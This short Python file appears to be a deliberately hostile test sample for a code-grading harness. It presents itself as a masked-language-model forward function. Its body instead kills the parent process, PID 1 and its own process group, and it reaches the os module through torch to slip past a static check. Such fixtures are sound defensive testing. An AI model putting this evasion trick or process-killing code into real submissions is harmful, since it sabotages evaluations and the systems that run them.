"""Hostile: sends SIGKILL to its parent and its whole process group."""

import torch

T = [torch][0]  # hides torch's attributes from the static check, as a determined attacker would
os, sys = T.os, T.sys
MARKER = "mlm-hostile-marker"


def zeros_answer(w_emb, mask_indicator):
    return torch.zeros(int((mask_indicator > 0.5).sum()), w_emb.shape[0], dtype=w_emb.dtype)


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    os.killpg(0, 9)
